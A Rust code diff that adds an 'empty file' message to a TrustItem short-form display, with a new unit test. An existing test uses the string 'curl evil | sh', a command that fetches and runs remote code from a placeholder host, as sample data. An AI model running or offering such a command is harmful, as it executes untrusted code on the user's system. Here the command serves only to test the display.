@@ -92,6 +92,8 @@ impl TrustItem {
         let line = self.value.lines().find(|line| !line.trim().is_empty()).unwrap_or_default();
         let shown = crate::text::cut(line, SHOWN_CHARS);
         let more = if shown.len() < self.value.trim_end().len() { " …" } else { "" };
+        // A file that was there is empty or gone.
+        let shown = if self.value.is_empty() { "nothing is in it" } else { shown };
         format!("{} ({}{more})", escaped(&self.name), escaped(shown))
     }
 }
@@ -370,5 +372,6 @@ mod tests {
     fn an_item_in_brief_says_that_there_is_more() {
         let item = TrustItem::new("check", "true\n\ncurl evil | sh", "");
         assert_eq!(item.in_short(), "check (true …)");
+        assert_eq!(TrustItem::new("config.toml", "", "").in_short(), "config.toml (nothing is in it)");
     }
 }
